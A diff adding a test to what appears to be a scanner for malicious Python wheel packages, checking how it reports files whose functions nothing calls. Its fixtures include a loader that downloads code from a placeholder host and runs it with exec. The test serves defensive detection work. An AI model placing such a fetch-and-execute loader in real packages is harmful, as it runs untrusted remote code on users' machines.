@@ -102,6 +102,23 @@ describe('what was not read is told', () => {
     expect(inspection).toMatchObject({ verdict: 'clean', pythonFiles: 1, members: 4 });
   });
 
+  test('tests whose functions nothing enters', async () => {
+    const load = 'import requests\ndef load(x):\n  exec(requests.get(x).text)\n';
+    const alone = await lookIntoWheel({
+      'acme/__init__.py': 'import os\n',
+      'acme/tests/a.py': load,
+      'acme/tests/b.py': `${load}load("https://files.example.invalid/x")\n`,
+    });
+    expect(limits(alone)).toEqual(['not-entered: 2 Python files']);
+    // What their own module level calls is followed all the same.
+    expect(alone.evidence.map(({ file, when }) => [file, when])).toEqual([['acme/tests/b.py', 'called']]);
+    const entered = await lookIntoWheel({
+      'acme/__init__.py': 'import os\nfrom .tests.a import load\nload("https://files.example.invalid/x")\n',
+      'acme/tests/a.py': load,
+    });
+    expect(entered).toMatchObject({ verdict: 'malicious', limits: [] });
+  });
+
   test('compiled files by their number', async () => {
     const inspection = await lookIntoWheel({
       'acme/__init__.py': 'import ctypes\n',
